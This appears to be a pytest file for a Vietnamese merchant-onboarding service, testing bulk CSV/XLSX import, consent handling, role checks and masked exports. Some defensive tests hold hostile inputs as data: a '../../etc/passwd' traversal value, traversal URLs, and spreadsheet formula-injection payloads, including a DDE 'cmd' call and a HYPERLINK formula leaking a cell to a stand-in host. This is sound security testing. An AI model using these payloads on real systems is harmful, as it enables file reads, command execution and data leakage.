"""Bulk import over HTTP and from the command line: dry run with row errors and duplicates, commit
all-or-nothing, encodings, XLSX number cells, consent, roles; exports (CSV and XLSX, masked)."""

import csv
import io
import re
import unicodedata

import openpyxl
import pytest

from tests.helpers import api_token, browser_login, csrf_from

LEADER = "totruong-2"  # Tổ công nghệ số Gia Hội, Phú Xuân (19753); no demo traders
VOLUNTEER = "tnv-2-1"
TONES = "\u0300\u0301\u0303\u0309\u0323"
NFD = lambda s: unicodedata.normalize("NFD", s)  # noqa: E731

GOOD_HEADER = ["STT", "Tên cơ sở", "Chủ hộ", "SĐT", "Loại hình", "Ngành hàng", "Thôn/tổ", "Đồng ý"]
GOOD_ROWS = [
    [
        "1",
        "Bánh canh Nam Phổ Cô Hoa",
        "Nguyễn Thị Hoa",
        "0912 111 001",
        "Sạp chợ",
        "Ăn uống",
        "Gia Hội",
        "liên hệ",
    ],
    ["2", "Tạp hóa Chi Lăng Út Tâm", "Lê Văn Tâm", "0912111002", "Hộ kinh doanh", "Tạp hóa", "", "thống kê"],
    [
        "3",
        "Nón lá Sình",
        "Phạm Thị Sình",
        "+84 912 111 003",
        "Hộ kinh doanh",
        "OCOP",
        "TDP Gia Hội",
        "gian hàng, liên hệ",
    ],
]


def csv_bytes(rows: list[list[str]], *, bom: bool = True, delimiter: str = ",") -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return ("\ufeff" if bom else "").encode() + out.getvalue().encode()


def cp1258_bytes(text: str) -> bytes:
    """As Windows-1258 files are: â ê ô ă ơ ư đ precomposed, tones as combining marks."""
    out = []
    for ch in unicodedata.normalize("NFC", text):
        try:
            out.append(ch.encode("cp1258"))
            continue
        except UnicodeEncodeError:
            pass
        parts = unicodedata.normalize("NFD", ch)
        base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in TONES))
        out.append((base + "".join(c for c in parts if c in TONES)).encode("cp1258"))
    return b"".join(out)


def xlsx_bytes(rows: list[list[object]]) -> bytes:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


MESSY = [
    ["Danh sách tiểu thương chợ Gia Hội"],  # a title row above the header
    ["Tên cửa hàng", "Họ và tên", "Điện thoại", "Type", "Mặt hàng", "Thôn", "Consent", "Notes"],
    [NFD("Chè Hẻm Gia Hội"), NFD("Đặng Thị Thu"), "0912 222 001", "Sạp chợ", "Ăn uống", "", "liên hệ", ""],
    [
        "Bánh bèo Bà Cúc",
        "Trần Thị Cúc",
        "0123456789",
        "Sạp chợ",
        "Ăn uống",
        "",
        "liên hệ",
        "",
    ],  # 4: bad phone
    [
        "Sửa xe Anh Ba",
        "Lê Văn Ba",
        "028 3812 3456",
        "Hộ kinh doanh",
        "Dịch vụ",
        "",
        "liên hệ",
        "",
    ],  # 5: landline
    [
        "Cơm hến Mụ Tôn",
        "Ngô Thị Tôn",
        "0912 222 001",
        "Sạp chợ",
        "Ăn uống",
        "",
        "liên hệ",
        "",
    ],  # 6: phone of row 3
    [
        "Bún hến Đông Ba O Nga",
        "Trần Thị Nga",
        "0912 222 007",
        "Sạp chợ",
        "Ăn uống",
        "",
        "liên hệ",
        "",
    ],  # 7: demo
    ["Xôi Bà Tám", "Bà Tám", "0912 222 008", "Bay thảm", "Ăn uống", "Thôn Không Có", "liên hệ", ""],  # 8
    [
        "Chè Hẻm Gia Hội.",
        "Võ Văn Hẻm",
        "0912 222 009",
        "Sạp chợ",
        "Ăn uống",
        "",
        "liên hệ",
        "",
    ],  # 9: name of 3
    ["Rau Má Cô Lý", "Hồ Thị Lý", "0912 222 010", "Sạp chợ", "Rau quả", "", "", ""],  # 10: no consent
]


async def upload(client, data: bytes, filename: str, **fields):
    page = await client.get("/merchants/import")
    assert page.status_code == 200, page.text
    form = {"_csrf_token": csrf_from(page.text), **fields}
    return await client.post(
        "/merchants/import", data=form, files={"file": (filename, data, "text/csv")}, follow_redirects=False
    )


def commit_form(html: str) -> dict[str, object]:
    """The hidden fields of the preview's commit form, as the browser would send them."""
    form = html[html.index('action="/merchants/import/commit"') :]
    form = form[: form.index("</form>")]
    fields: dict[str, object] = {}
    for name, value in re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)">', form):
        if name in fields:
            previous = fields[name]
            fields[name] = [*previous, value] if isinstance(previous, list) else [previous, value]
        else:
            fields[name] = value
    fields["_csrf_token"] = csrf_from(html)
    return fields


def problems(html: str) -> list[tuple[int, str, str]]:
    table = html[html.index('id="import-problems"') :]
    table = table[: table.index("</table>")]
    rows = re.findall(r'<td class="num">(\d+)</td>\s*<td>([^<]*)</td>\s*<td>([^<]*)', table)
    return [(int(n), column, message.strip()) for n, column, message in rows]


async def count(client, username: str = LEADER) -> int:
    headers = await api_token(client, username)
    return (await client.get("/api/v1/merchants", headers=headers)).json()["total"]


async def test_dry_run_lists_row_errors_and_duplicates_and_writes_nothing(client) -> None:
    await browser_login(client, LEADER)
    response = await upload(client, csv_bytes(MESSY), "gia-hoi.csv")
    assert response.status_code == 200, response.text
    by_row: dict[int, list[tuple[str, str]]] = {}
    for row, column, message in problems(response.text):
        by_row.setdefault(row, []).append((column, message))
    assert by_row[4] == [("Điện thoại", "Số điện thoại không hợp lệ.")]
    assert by_row[5] == [("Điện thoại", "Cần số di động; số máy bàn không dùng được.")]
    assert by_row[6] == [("Điện thoại", "Trùng với dòng 3 của tệp.")]
    assert by_row[7] == [("Tên cửa hàng", "Có thể trùng với tiểu thương đã đăng ký: Bún hến Đông Ba O Nga.")]
    assert sorted(by_row[8]) == [
        ("Thôn", "Thôn/tổ dân phố không thuộc xã/phường đã chọn."),
        ("Type", "Giá trị không hợp lệ."),
    ]
    assert by_row[9] == [("Tên cửa hàng", "Trùng với dòng 3 của tệp.")]
    assert by_row[10] == [("Consent", "Cần chọn ít nhất một mục người bán đồng ý.")]
    assert 3 not in by_row
    assert "8 dòng · 1 dòng hợp lệ · 4 dòng lỗi · 3 dòng trùng" in response.text
    assert 'id="import-commit"' not in response.text and 'id="import-skip"' in response.text
    assert await count(client) == 0


async def test_commit_is_all_or_nothing_unless_bad_rows_are_skipped_explicitly(client) -> None:
    await browser_login(client, LEADER)
    preview = await upload(client, csv_bytes(MESSY), "gia-hoi.csv")
    form = commit_form(preview.text)
    assert form["skip_invalid"] == "1"
    strict = {k: v for k, v in form.items() if k != "skip_invalid"}
    refused = await client.post("/merchants/import/commit", data=strict, follow_redirects=False)
    assert refused.status_code == 409
    assert "Chưa nhập dòng nào" in refused.text
    assert await count(client) == 0
    skipped = await client.post("/merchants/import/commit", data=form, follow_redirects=False)
    assert skipped.status_code == 303, skipped.text
    listing = await client.get(skipped.headers["location"])
    assert "Đã nhập 1 tiểu thương từ gia-hoi.csv. Đã bỏ qua 7 dòng lỗi hoặc trùng." in listing.text
    assert "Chè Hẻm Gia Hội" in listing.text
    assert await count(client) == 1


async def test_a_clean_file_is_committed_with_consent_recorded_by_the_importer(client) -> None:
    await browser_login(client, LEADER)
    preview = await upload(client, csv_bytes([GOOD_HEADER, *GOOD_ROWS]), "sach.csv")
    assert "3 dòng · 3 dòng hợp lệ · 0 dòng lỗi · 0 dòng trùng" in preview.text
    assert 'id="import-problems"' not in preview.text
    committed = await client.post(
        "/merchants/import/commit", data=commit_form(preview.text), follow_redirects=False
    )
    assert committed.status_code == 303
    headers = await api_token(client, LEADER)
    me = (await client.get("/api/v1/me", headers=headers)).json()
    items = (await client.get("/api/v1/merchants", params={"sort": "name"}, headers=headers)).json()["items"]
    by_name = {m["business_name"]: m for m in items}
    assert set(by_name) == {"Bánh canh Nam Phổ Cô Hoa", "Tạp hóa Chi Lăng Út Tâm", "Nón lá Sình"}
    hoa = by_name["Bánh canh Nam Phổ Cô Hoa"]
    assert hoa["owner_phone"] == "+84912111001"
    assert hoa["kind"] == "market_stall" and hoa["category"] == "food_drink"
    assert hoa["consent_purposes"] == ["contact"] and hoa["consent_by_id"] == me["id"]
    assert hoa["team_id"] == me["team"]["id"] and hoa["commune_code"] == "19753"
    assert hoa["current_stage"] == "registered"
    assert hoa["village_id"] is not None
    assert by_name["Nón lá Sình"]["village_id"] == hoa["village_id"]  # "TDP Gia Hội" is the same village
    assert by_name["Nón lá Sình"]["consent_purposes"] == ["storefront", "contact"]
    audit = (await client.get(f"/api/v1/merchants/{hoa['id']}/audit", headers=headers)).json()
    assert [e["action"] for e in audit] == ["import"]
    assert audit[0]["changes"]["source"] == [None, "sach.csv #2"]
    assert audit[0]["changes"]["owner_phone"] == [None, "+84912111001"]
    # The same file again: every row is now a duplicate of what it created.
    again = await upload(client, csv_bytes([GOOD_HEADER, *GOOD_ROWS]), "sach.csv")
    assert "3 dòng · 0 dòng hợp lệ · 0 dòng lỗi · 3 dòng trùng" in again.text


async def test_windows_1258_csv_is_decoded_and_names_are_stored_nfc(client) -> None:
    await browser_login(client, LEADER)
    text = "Tên cơ sở;Chủ hộ;Số điện thoại;Loại hình;Ngành hàng;Đồng ý\r\n"
    text += "Bún bò Huế Mệ Kéo;Trần Thị Kéo;0912333001;Sạp chợ;Ăn uống;liên hệ\r\n"
    data = cp1258_bytes(text)
    assert b"\xd2" in data or b"\xec" in data  # tones really are combining marks here
    preview = await upload(client, data, "windows.csv")
    assert "1 dòng · 1 dòng hợp lệ" in preview.text
    committed = await client.post(
        "/merchants/import/commit", data=commit_form(preview.text), follow_redirects=False
    )
    assert committed.status_code == 303
    items = (await client.get("/api/v1/merchants", headers=await api_token(client, LEADER))).json()["items"]
    assert [m["business_name"] for m in items] == ["Bún bò Huế Mệ Kéo"]
    assert items[0]["owner_name"] == unicodedata.normalize("NFC", "Trần Thị Kéo")


async def test_a_csv_in_another_encoding_is_refused_with_a_clear_message(client) -> None:
    await browser_login(client, LEADER)
    data = "Tên,Chủ hộ,Điện thoại\nCafé Müller,Jürgen Müller,0912345678\n".encode("latin-1", "replace")
    response = await upload(client, data, "latin1.csv")
    assert response.status_code == 422
    assert "không dùng bảng mã UTF-8 hay Windows-1258" in response.text
    assert "CSV UTF-8" in response.text


async def test_xlsx_with_numeric_phone_cells_gets_the_leading_zero_back(client) -> None:
    await browser_login(client, LEADER)
    data = xlsx_bytes(
        [
            ["Business name", "Owner", "Phone", "Type", "Category", "Consent", "CCCD"],
            ["Bánh ép Gia Hội", "Lê Thị Ép", 912444001, "market stall", "food", "contact", 1085012345],
            ["Ớt hiểm Cô Ba", "Trần Thị Ba", 912444002.0, "Sạp chợ", "Rau quả", "statistics", None],
        ]
    )
    preview = await upload(client, data, "danh-sach.xlsx")
    assert "2 dòng · 2 dòng hợp lệ" in preview.text, preview.text
    committed = await client.post(
        "/merchants/import/commit", data=commit_form(preview.text), follow_redirects=False
    )
    assert committed.status_code == 303
    items = (await client.get("/api/v1/merchants", headers=await api_token(client, LEADER))).json()["items"]
    assert sorted(m["owner_phone"] for m in items) == ["+84912444001", "+84912444002"]
    assert {m["owner_id_number"] for m in items} == {"001085012345", None}


async def test_a_file_without_consent_needs_the_paper_consent_confirmed(client) -> None:
    await browser_login(client, LEADER)
    rows = [[c for i, c in enumerate(r) if i != 7] for r in [GOOD_HEADER, *GOOD_ROWS]]
    refused = await upload(client, csv_bytes(rows), "giay.csv")
    assert refused.status_code == 422
    assert "Tệp không có cột “Đồng ý”" in refused.text
    preview = await upload(client, csv_bytes(rows), "giay.csv", paper_consent=["contact", "statistics"])
    assert "3 dòng · 3 dòng hợp lệ" in preview.text
    form = commit_form(preview.text)
    assert form["paper_consent"] == ["contact", "statistics"]
    assert (
        await client.post("/merchants/import/commit", data=form, follow_redirects=False)
    ).status_code == 303
    items = (await client.get("/api/v1/merchants", headers=await api_token(client, LEADER))).json()["items"]
    assert {tuple(m["consent_purposes"]) for m in items} == {("contact", "statistics")}


async def test_missing_columns_are_named(client) -> None:
    await browser_login(client, LEADER)
    response = await upload(client, csv_bytes([["Tên cơ sở", "Ghi chú"], ["Phở Gia Hội", ""]]), "thieu.csv")
    assert response.status_code == 422
    assert "Tệp thiếu cột: Loại hình, Ngành hàng, Họ tên chủ hộ, Số điện thoại di động." in response.text


async def test_kind_and_category_can_be_chosen_for_the_whole_file(client) -> None:
    await browser_login(client, LEADER)
    rows = [["Tên cơ sở", "Chủ hộ", "SĐT", "Đồng ý"], ["Chè Bà Năm", "Bà Năm", "0912555001", "liên hệ"]]
    preview = await upload(client, csv_bytes(rows), "cho.csv", kind="street_vendor", category="food_drink")
    assert "1 dòng · 1 dòng hợp lệ" in preview.text
    await client.post("/merchants/import/commit", data=commit_form(preview.text), follow_redirects=False)
    items = (await client.get("/api/v1/merchants", headers=await api_token(client, LEADER))).json()["items"]
    assert (items[0]["kind"], items[0]["category"]) == ("street_vendor", "food_drink")


async def test_rows_of_another_commune_are_refused_for_a_team(client) -> None:
    await browser_login(client, LEADER)
    rows = [
        ["Tên cơ sở", "Chủ hộ", "SĐT", "Mã xã", "Loại hình", "Ngành hàng", "Đồng ý"],
        ["Phở Kim Long", "Lê Văn Long", "0912666001", "19774", "Sạp chợ", "Ăn uống", "liên hệ"],
        ["Phở Hà Nội", "Lê Văn Hà", "0912666002", "99999", "Sạp chợ", "Ăn uống", "liên hệ"],
    ]
    found = problems((await upload(client, csv_bytes(rows), "xa.csv")).text)
    assert found == [
        (2, "Mã xã", "Xã/phường này nằm ngoài phạm vi quản lý của bạn."),
        (3, "Mã xã", "Mã xã/phường không tồn tại."),
    ]


async def test_officers_choose_the_team_and_volunteers_may_not_import(client) -> None:
    await browser_login(client, VOLUNTEER)
    assert (await client.get("/merchants/import")).status_code == 403
    await browser_login(client, "demo-commune")
    page = await client.get("/merchants/import")
    assert 'name="team_id"' in page.text
    no_team = await upload(client, csv_bytes([GOOD_HEADER, *GOOD_ROWS]), "sach.csv")
    assert no_team.status_code == 422 and "Tổ không tồn tại hoặc nằm ngoài phạm vi của bạn." in no_team.text
    teams = (await client.get("/api/v1/teams", headers=await api_token(client, "demo-commune"))).json()
    gia_hoi = next(t["id"] for t in teams if t["name"] == "Tổ công nghệ số Gia Hội")
    preview = await upload(client, csv_bytes([GOOD_HEADER, *GOOD_ROWS]), "sach.csv", team_id=gia_hoi)
    assert "Tổ nhận các tiểu thương: Tổ công nghệ số Gia Hội" in preview.text
    committed = await client.post(
        "/merchants/import/commit", data=commit_form(preview.text), follow_redirects=False
    )
    assert committed.status_code == 303
    assert await count(client) == 3


async def test_only_the_uploader_can_commit_a_previewed_file(client) -> None:
    await browser_login(client, LEADER)
    preview = await upload(client, csv_bytes([GOOD_HEADER, *GOOD_ROWS]), "sach.csv")
    form = commit_form(preview.text)
    await browser_login(client, "demo-leader")
    page = await client.get("/merchants/import")
    stolen = await client.post(
        "/merchants/import/commit", data={**form, "_csrf_token": csrf_from(page.text)}, follow_redirects=False
    )
    assert stolen.status_code == 409
    assert "Không còn tệp đã xem trước" in stolen.text
    forged = {**form, "sha256": "../../etc/passwd", "_csrf_token": csrf_from(page.text)}
    assert (await client.post("/merchants/import/commit", data=forged)).status_code == 409


def _kept_files(settings) -> list:
    return [p for p in (settings.media_dir.parent).rglob("*") if p.is_file() and p.suffix == ".csv"]


async def test_a_previewed_file_is_private_and_gone_after_commit_or_cancel(client, settings) -> None:
    await browser_login(client, LEADER)
    data = csv_bytes([GOOD_HEADER, *GOOD_ROWS])
    preview = await upload(client, data, "sach.csv")
    assert 'action="/merchants/import/cancel"' in preview.text
    [kept] = _kept_files(settings)
    assert kept.read_bytes() == data
    assert settings.media_dir not in kept.parents  # outside every served folder
    user_id = kept.parent.name
    for path in (
        f"/media/imports/{user_id}/{kept.name}",
        f"/media/../uploads/imports/{user_id}/{kept.name}",
        f"/static/../../var/uploads/imports/{user_id}/{kept.name}",
    ):
        for who in (None, LEADER):
            if who is None:
                client.cookies.clear()
            else:
                await browser_login(client, who)
            response = await client.get(path)
            assert response.status_code in (403, 404), path
            assert "Bún" not in response.text and "0912" not in response.text
    await browser_login(client, LEADER)
    token = csrf_from((await client.get("/merchants/import")).text)  # signed in again: a new token
    form = {**commit_form(preview.text), "_csrf_token": token}
    cancelled = await client.post(
        "/merchants/import/cancel",
        data={k: form[k] for k in ("sha256", "filename", "_csrf_token")},  # the cancel form's fields
        follow_redirects=False,
    )
    assert cancelled.status_code == 303 and cancelled.headers["location"] == "/merchants/import"
    assert _kept_files(settings) == []
    after = await client.post("/merchants/import/commit", data=form, follow_redirects=False)
    assert after.status_code == 409 and await count(client) == 0  # a cancelled file cannot be committed

    committed = await client.post(
        "/merchants/import/commit",
        data=commit_form((await upload(client, data, "sach.csv")).text),
        follow_redirects=False,
    )
    assert committed.status_code == 303 and await count(client) == 3
    assert _kept_files(settings) == []


async def test_the_daily_housekeeping_drops_day_old_previews(client, settings) -> None:
    from datetime import UTC, datetime, timedelta

    from service.db import create_engine
    from service.housekeeping import Housekeeping

    await browser_login(client, LEADER)
    await upload(client, csv_bytes([GOOD_HEADER, *GOOD_ROWS]), "sach.csv")
    [preview] = _kept_files(settings)
    # Age is the file's own time (the file system's clock, which a test cannot pin), plus a day.
    written = datetime.fromtimestamp(preview.stat().st_mtime, UTC)
    legacy = settings.media_dir / "imports" / "someone" / ("0" * 64 + ".csv")  # where they once were
    legacy.parent.mkdir(parents=True)
    legacy.write_text("Tên,Số\nBún,0912 345 678\n")
    engine = create_engine(settings)  # the test's own: the app's connections belong to its loop
    housekeeping = Housekeeping(engine, settings)
    try:
        await housekeeping.run_once(now=written + timedelta(hours=23))
        assert len(_kept_files(settings)) == 1  # a preview of today stays, until the day is over
        assert not legacy.exists()
        await housekeeping.run_once(now=written + timedelta(hours=25))
        assert _kept_files(settings) == []
    finally:
        await engine.dispose()


async def test_a_file_over_the_size_limit_is_refused_before_it_is_read(client) -> None:
    from service.merchants.spreadsheet import MAX_BYTES

    await browser_login(client, LEADER)
    response = await upload(client, b"a" * (MAX_BYTES + 2 * 1024 * 1024), "big.csv")
    assert response.status_code == 413


def test_the_command_line_import_checks_then_writes(database_url, tmp_path, monkeypatch, capsys) -> None:
    from service.cli import main

    monkeypatch.setenv("ONBOARD_DATABASE_URL", database_url)
    monkeypatch.setenv("ONBOARD_SECRET_KEY", "test-secret-key-0123456789")
    messy = tmp_path / "messy.csv"
    messy.write_bytes(csv_bytes(MESSY))
    assert main(["import", "merchants", str(messy), "--as", LEADER, "--dry-run", "--quiet"]) == 1
    out = capsys.readouterr().out
    assert "row 4\tĐiện thoại\tSố điện thoại không hợp lệ." in out
    assert "8 rows: 1 valid, 4 with errors, 3 duplicates" in out and "dry run: nothing written" in out
    assert main(["import", "merchants", str(messy), "--as", LEADER, "--quiet"]) == 1
    assert "nothing imported" in capsys.readouterr().err
    good = tmp_path / "good.csv"
    good.write_bytes(csv_bytes([GOOD_HEADER, *GOOD_ROWS]))
    assert main(["import", "merchants", str(good), "--as", LEADER, "--lang", "en"]) == 0
    captured = capsys.readouterr()
    assert "imported 3 merchants" in captured.out
    assert "writing" in captured.err  # the tqdm progress bar
    again = main(["import", "merchants", str(good), "--as", LEADER, "--dry-run", "--lang", "en", "--quiet"])
    assert again == 1
    assert "Possibly already registered: Nón lá Sình." in capsys.readouterr().out
    assert main(["import", "merchants", str(good), "--as", VOLUNTEER, "--quiet"]) == 2
    output = tmp_path / "out.xlsx"
    assert main(["export", "merchants", "--as", LEADER, "--output", str(output)]) == 0
    assert openpyxl.load_workbook(output).active.max_row == 4


# --- export ---------------------------------------------------------------------------------------


async def _register(client, username: str, **values) -> dict:
    body = {
        "kind": "market_stall",
        "business_name": "Bún bò Huế Mệ Kéo",
        "category": "food_drink",
        "owner_name": "Trần Thị Kéo",
        "owner_phone": "0912 345 678",
        "commune_code": "19753",
        "owner_id_number": "079185123456",
        "tax_code": "001085012345",
        "consent_purposes": ["storefront", "contact"],
        **values,
    }
    response = await client.post("/api/v1/merchants", json=body, headers=await api_token(client, username))
    assert response.status_code == 201, response.text
    return response.json()


def _sheet(data: bytes) -> list[dict[str, object]]:
    rows = list(openpyxl.load_workbook(io.BytesIO(data), read_only=True).active.values)
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


async def test_export_xlsx_opens_and_masks_personal_data_by_role(client) -> None:
    created = await _register(client, VOLUNTEER)
    await browser_login(client, LEADER)
    response = await client.get("/merchants/export.xlsx")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response.headers["content-disposition"]
    [row] = _sheet(response.content)
    assert row["Mã bản ghi"] == created["id"]
    assert row["Số điện thoại"] == "0912 345 678"
    assert row["Số CCCD"] == "079185123456" and row["Mã số thuế"] == "001085012345"
    assert row["Xã/phường"] == "Phường Phú Xuân" and row["Tỉnh/thành phố"] == "Thành phố Huế"
    assert row["Loại hình"] == "Sạp chợ" and row["Đồng ý"] == "gian hàng, liên hệ"
    await browser_login(client, "demo-commune")
    officer = {r["Mã bản ghi"]: r for r in _sheet((await client.get("/merchants/export.xlsx")).content)}
    assert len(officer) == 8  # the 7 demo traders of Phú Xuân and ours
    mine = officer[created["id"]]
    assert mine["Số điện thoại"] == "•••• 5678"
    assert mine["Số CCCD"] == "•••• 3456" and mine["Mã số thuế"] == "•••• 2345"
    assert "0912 345 678" not in str(officer) and "079185123456" not in str(officer)


async def test_export_csv_has_a_bom_and_reads_back_as_an_import(client) -> None:
    from service.merchants.spreadsheet import read_rows

    await _register(client, VOLUNTEER, business_name=NFD("Chè Hẻm Đặng Gia"))
    await browser_login(client, LEADER)
    response = await client.get("/merchants/export.csv")
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")
    sheet = read_rows(response.content, filename="export.csv")
    [row] = sheet.rows
    assert row["business_name"] == "Chè Hẻm Đặng Gia"
    assert (row["kind"], row["category"], row["owner_phone"]) == (
        "market_stall",
        "food_drink",
        "0912 345 678",
    )
    assert row["consent_purposes"] == "storefront,contact"
    assert row["commune_code"] == "19753"


FORMULAS = {
    "business_name": '=HYPERLINK("http://example.invalid/?"&A1,"Xem")',
    "market": "@SUM(1+1)",
    "stall": "+1-1",
    "notes": "-2+3 =cmd|' /C calc'!A0",
}


async def test_exported_text_never_runs_as_a_formula(client) -> None:
    from service.merchants.spreadsheet import read_rows

    created = await _register(client, VOLUNTEER, **FORMULAS, lat=16.46, lon=107.59)
    await browser_login(client, LEADER)
    book = openpyxl.load_workbook(io.BytesIO((await client.get("/merchants/export.xlsx")).content))
    header = [cell.value for cell in book.active[1]]
    [row] = [dict(zip(header, cells, strict=True)) for cells in book.active.iter_rows(min_row=2)]
    for field, typed in FORMULAS.items():
        cell = next(c for c in row.values() if c.value == typed)  # the value as typed ...
        assert cell.data_type == "s", field  # ... stored as text, not a formula
    assert row["Vĩ độ"].value == 16.46 and row["Vĩ độ"].data_type == "n"  # numbers stay numbers
    assert row["Mã bản ghi"].value == created["id"]

    text = (await client.get("/merchants/export.csv")).content.decode("utf-8-sig")
    cells = next(csv.reader(io.StringIO(text.splitlines(keepends=True)[1])))
    for typed in FORMULAS.values():
        assert "'" + typed in cells  # marked as text for a spreadsheet program
        assert typed not in cells
    assert "16.46" in cells
    [back] = read_rows(text.encode("utf-8-sig"), filename="export.csv").rows  # the importer unmarks it
    assert {field: back[field] for field in FORMULAS} == FORMULAS


async def test_export_over_the_api_and_volunteers_may_not_export(client) -> None:
    await _register(client, VOLUNTEER)
    officer = await api_token(client, "demo-province")
    response = await client.get("/api/v1/merchants/export", params={"format": "csv"}, headers=officer)
    assert response.status_code == 200
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("Mã bản ghi,Tên cơ sở kinh doanh")
    assert len(lines) == 1 + 11 + 1  # the header, Huế's 11 demo traders and ours
    volunteer = await api_token(client, VOLUNTEER)
    assert (await client.get("/api/v1/merchants/export", headers=volunteer)).status_code == 403
    await browser_login(client, VOLUNTEER)
    assert (await client.get("/merchants/export.csv")).status_code == 403


async def test_export_lists_every_row_across_batches(client, monkeypatch) -> None:
    from service.merchants import exports

    monkeypatch.setattr(exports, "BATCH", 3)
    await browser_login(client, "demo-admin")
    rows = _sheet((await client.get("/merchants/export.xlsx")).content)
    assert len(rows) == 16
    assert len({r["Mã bản ghi"] for r in rows}) == 16


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_export_is_empty_but_valid_when_nothing_is_in_scope(client, fmt) -> None:
    await browser_login(client, LEADER)
    response = await client.get(f"/merchants/export.{fmt}")
    assert response.status_code == 200
    if fmt == "xlsx":
        assert _sheet(response.content) == []
    else:
        assert len(response.content.decode("utf-8-sig").splitlines()) == 1


FAIL_STAGE_EVENTS = {  # a database that fails while the import writes: a full disk, a lost connection
    "sqlite": [
        "CREATE TRIGGER fail_midway BEFORE INSERT ON stage_events "
        "BEGIN SELECT RAISE(ABORT, 'disk I/O error (test)'); END"
    ],
    "postgresql": [
        "CREATE FUNCTION fail_midway() RETURNS trigger LANGUAGE plpgsql AS "
        "$$ BEGIN RAISE EXCEPTION 'disk I/O error (test)'; END $$",
        "CREATE TRIGGER fail_midway BEFORE INSERT ON stage_events "
        "FOR EACH ROW EXECUTE FUNCTION fail_midway()",
    ],
}
HEAL = {"sqlite": ["DROP TRIGGER fail_midway"], "postgresql": ["DROP TRIGGER fail_midway ON stage_events"]}


async def _run_sql(settings, statements: list[str]) -> None:
    from sqlalchemy import text

    from service.db import create_engine

    engine = create_engine(settings)
    try:
        async with engine.begin() as conn:
            for statement in statements:
                await conn.execute(text(statement))
    finally:
        await engine.dispose()


async def _stored(settings) -> dict:
    """What the import writes: merchants, their audit entries and stage events, the report counters."""
    from sqlalchemy import func, select

    from service.audit import AuditEntry
    from service.db import create_engine, session_maker
    from service.merchants.models import Merchant
    from service.onboarding.models import StageEvent
    from service.reports import counters

    engine = create_engine(settings)
    try:
        async with session_maker(engine)() as session:
            return {
                "merchants": await session.scalar(select(func.count()).select_from(Merchant)),
                "imported": await session.scalar(
                    select(func.count()).select_from(AuditEntry).where(AuditEntry.action == "import")
                ),
                "stage events": await session.scalar(select(func.count()).select_from(StageEvent)),
                "counters": await counters.stored(session),
            }
    finally:
        await engine.dispose()


async def test_a_failure_in_the_middle_of_the_write_leaves_nothing_written(client, settings) -> None:
    """The merchants' rows and their audit entries are written, then the database fails on the
    stage events: the whole import is rolled back, and the same preview commits once it is healthy."""
    await browser_login(client, LEADER)
    preview = await upload(client, csv_bytes([GOOD_HEADER, *GOOD_ROWS]), "sach.csv")
    assert "3 dòng · 3 dòng hợp lệ" in preview.text
    before = await _stored(settings)
    dialect = "sqlite" if settings.is_sqlite else "postgresql"
    await _run_sql(settings, FAIL_STAGE_EVENTS[dialect])

    failed = await client.post(
        "/merchants/import/commit", data=commit_form(preview.text), follow_redirects=False
    )
    assert failed.status_code == 500
    assert await _stored(settings) == before
    assert await count(client) == 0

    await _run_sql(settings, HEAL[dialect])
    again = await client.post(
        "/merchants/import/commit", data=commit_form(preview.text), follow_redirects=False
    )
    assert again.status_code == 303, again.text
    after = await _stored(settings)
    assert (after["merchants"], after["imported"]) == (before["merchants"] + 3, before["imported"] + 3)
    assert await count(client) == 3
